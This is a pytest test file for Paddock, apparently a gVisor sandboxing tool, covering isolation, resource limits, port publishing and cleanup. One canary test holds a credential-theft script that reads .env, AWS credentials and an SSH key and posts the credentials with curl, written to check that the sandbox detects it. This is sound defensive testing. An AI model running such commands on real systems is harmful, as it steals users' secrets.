"""Under gVisor: each kind of plan that is more than a command, and Paddock's sudden end at any moment."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import time
import urllib.request
from typing import TYPE_CHECKING

import pytest

from paddock.probes.planting.files import fingerprint
from paddock.probes.scenarios.network import free_port
from tests import busybox
from tests.background import clean, kill_together, killed_at_moments, one_message, running
from tests.boundary.field import wait_for
from tests.capabilities import IS_ROOT, needs
from tests.gateway.secure import serving
from tests.gvisor import person_of, sh
from tests.podman import containers, left, places
from tests.real.support import processes_with
from tests.test_session__credentials import ALARMED, policy, read

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.conftest import Person
    from tests.gateway.secure import Service

pytestmark = needs("gvisor", "git")
MOMENTS, LATEST_S = 8, 1.6  # the whole run lies within that


@pytest.fixture
def person(tmp_path: Path) -> Iterator[Person]:
    yield from person_of(tmp_path / "home")


@pytest.fixture
def service() -> Iterator[Service]:
    with serving(None) as made:
        yield made


def add(person: Person, text: str) -> None:
    with open(person.home / ".config/paddock/policy.toml", "a") as file:
        file.write(text)


def test_an_image_has_its_own_programs_its_person_and_a_root_that_is_read(
    person: Person,
    repo: Path,
    tmp_path: Path,
) -> None:
    image = busybox.build(person, tmp_path / "image")
    script = (
        "uname -r; id -un; echo $EDITION; cat ~/.profile; touch /bin/z 2>/dev/null || echo kept; echo x > made; ls /usr"
    )
    done = person.call("run", "--quiet", "--image", image, "--", "sh", "-c", script, cwd=repo)
    release, *said = done.stdout.splitlines()
    assert release != os.uname().release
    assert said == ["ann", "first", "# of the image", "kept"]
    assert "made" in person.call("diff", cwd=repo).stdout


def test_the_attack_at_the_start_is_withstood_and_a_breach_would_be_told(person: Person, repo: Path) -> None:
    add(person, "[prove]\nat_start = true\n")
    assert sh(person, repo, "echo ran") == "ran\n"
    code = "from paddock.probes import running; real = running.read; "
    code += "running.read = lambda *words: ({}, real(*words)[1]); from paddock.cli.main import main; main()"
    argv = [*person.argv()[:1], "-c", code, "run", "--", "touch", "ran"]
    done = subprocess.run(argv, cwd=repo, env=person.environ, capture_output=True, text=True, check=False)
    assert done.returncode == 126
    assert "gave no answer" in one_message(done.stderr)
    assert left(person) == []


def test_canaries_are_seen_and_their_use_ends_the_sandbox(person: Person, repo: Path, service: Service) -> None:
    (repo / ".env").write_text("REAL=1\n")
    text = f'[workspace]\ncanaries = ["aws", "ssh", "env"]\n[network]\nmode = "allow"\nallow = [{read(service)}]\n'
    policy(person, text)
    script = "cat .env ~/.aws/credentials; head -1 ~/.ssh/id_ed25519; cat /proc/1/comm; "
    script += f"curl -s -d @$HOME/.aws/credentials http://host:{service.port}/; sleep 100; echo went on"
    done = person.call("run", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == ALARMED, done.stderr
    assert done.stdout.startswith("STRIPE_SECRET_KEY=sk_live_")
    assert "aws_access_key_id = AKIA" in done.stdout
    assert "-----BEGIN OPENSSH PRIVATE KEY-----\npaddock-init\n" in done.stdout
    assert "went on" not in done.stdout
    assert "canary" in done.stderr
    assert service.seen == []
    assert left(person) == []


def test_a_published_port_is_reached_and_no_other_one(person: Person, repo: Path) -> None:
    port = free_port()
    with socket.socket() as held:  # which nobody else outside can listen on meanwhile
        held.bind(("127.0.0.1", 0))
        inside = held.getsockname()[1]
        serve = f'import http.server as h; s = h.HTTPServer(("127.0.0.1", {inside}), h.SimpleHTTPRequestHandler); '
        serve += 'print("up", flush=True); s.serve_forever()'
        with running(person, repo, "--quiet", "--publish", f"{port}:{inside}", command=("python3", "-c", serve)):
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/hello.txt", timeout=60) as answer:
                assert answer.read() == b"hello\n"
            with pytest.raises(ConnectionRefusedError):
                socket.create_connection(("127.0.0.1", inside), 5)


def test_programs_look_into_each_other_only_where_the_policy_is_for_debugging(person: Person, repo: Path) -> None:
    traced = "import ctypes; print(ctypes.CDLL(None).ptrace(0, 0, 0, 0))"
    assert sh(person, repo, f"python3 -c '{traced}'") == "-1\n"
    assert sh(person, repo, f"python3 -c '{traced}'", "--debug-syscalls") == "0\n"


def test_a_kept_sandbox_is_entered_and_ended(person: Person, repo: Path) -> None:
    mark = f"mark-{os.getpid()}-kept"
    script = f"echo x > made; sleep 600 & : {mark}"
    done = person.call("run", "--quiet", "--keep", "--name", "kept", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode == 0, done.stderr
    inside = person.call("exec", "kept", "--", "sh", "-c", "cat made /proc/1/comm; uname -r", cwd=repo).stdout
    assert inside.splitlines()[:2] == ["x", "paddock-init"]
    assert inside.splitlines()[2] != os.uname().release
    assert person.call("kill", "kept", cwd=repo).returncode == 0
    assert guests(person) == []
    assert left(person) == []
    assert "made" in person.call("diff", cwd=repo).stdout


def test_the_time_limit_ends_it_and_says_so(person: Person, repo: Path) -> None:
    done = person.call("run", "--quiet", "--limit", "wall=2s", "--", "sleep", "600", cwd=repo)
    assert done.returncode == 143, done.stderr
    assert "the time limit of 2 s was reached" in done.stderr
    assert left(person) == []


@pytest.mark.root
def test_a_memory_limit_ends_the_whole_sandbox_and_says_so(person: Person, repo: Path) -> None:
    script = "python3 -c \"bytearray(b'x' * (512 << 20))\"; echo went on"
    done = person.call("run", "--quiet", "--limit", "memory=200MiB", "--", "sh", "-c", script, cwd=repo)
    assert done.returncode not in (0, 126), done.stderr
    assert "went on" not in done.stdout
    assert "out of memory" in done.stderr
    assert left(person) == []


def test_killed_at_any_moment_it_leaves_nothing(person: Person, repo: Path, tmp_path: Path) -> None:
    assert sh(person, repo, "echo tried") == "tried\n"  # the platforms: not at every start
    before = fingerprint(repo)
    mark = f"mark-{os.getpid()}-{tmp_path.name}"
    runs = [("--", "sh", "-c", "sleep 0.3; echo x > made", mark)] * MOMENTS
    killed = sum(killed_at_moments(person, repo, runs, LATEST_S))
    assert killed, "nothing was killed: it starts too fast for these moments"
    assert left(person) == []
    assert guests(person) == []
    wait_for(lambda: processes_with(mark) == [])  # a guard ends after its container
    clean(person, repo)
    assert list((person.home / "runtime/paddock/live").iterdir()) == []
    assert laid_out(person) == []
    assert fingerprint(repo) == before


def test_clean_removes_a_guest_whose_guard_was_killed_too(person: Person, repo: Path) -> None:
    own = f"it-{os.getpid()}"  # of nobody else's tests, which may go on beside these
    with running(person, repo, "--name", own) as process:
        (name,) = (line.split(maxsplit=1)[0] for line in containers(person))
        assert guests(person) != []
        assert bool(laid_out(person)) == IS_ROOT
        guards = [int(line.split(":")[0]) for line in processes_with(f"run --name {own} -- sh")]
        kill_together({*guards, process.pid})
        process.wait()
    assert [line.split(maxsplit=1)[0] for line in containers(person)] == [name]
    told = json.loads(person.call("clean", "--json", cwd=repo).stdout)
    assert f"container {name}" in told["removed"]
    assert told["left"] == []
    assert containers(person) == []
    assert guests(person) == []


def guests(person: Person) -> list[str]:
    """The processes of runsc that live, of this person's sandboxes, once what is ending has had time."""
    deadline = time.monotonic() + 90
    while (found := _guests(str(person.home))) and time.monotonic() < deadline and not containers(person):
        time.sleep(0.1)
    return found


def _guests(home: str) -> list[str]:
    """Below /proc: runsc keeps the environment of the Paddock that has started it."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                words = file.read()
            with open(f"/proc/{pid}/mountinfo", errors="replace") as file:
                ours = home in file.read()
        except OSError:
            continue
        if words.startswith(b"runsc-") and ours:
            found.append(words.replace(b"\0", b" ").decode())
    return found


def laid_out(person: Person) -> list[str]:
    """What of this person's containers is mounted where everybody sees it; as root, what was laid out for them, too."""
    home = str(person.home)
    with open("/proc/self/mountinfo", errors="replace") as file:
        found = [line.split()[4] for line in file if home in line]
    return found + (places(person) if IS_ROOT else [])
